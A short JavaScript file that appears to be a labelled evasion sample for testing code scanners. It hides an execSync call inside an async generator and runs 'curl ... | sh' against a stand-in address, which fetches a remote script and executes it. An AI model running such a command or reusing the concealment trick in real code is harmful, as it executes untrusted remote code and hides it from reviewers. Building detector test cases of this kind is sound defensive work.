// evasion: an object's async generator method yields execSync; for await over it calls the command
// grade: hard; does: shell
'use strict';
const { execSync } = require('child_process');
const runners = { async *all() { yield execSync; } };
(async () => { for await (const run of runners.all()) run('curl -s http://203.0.113.9/a.sh | sh'); })();
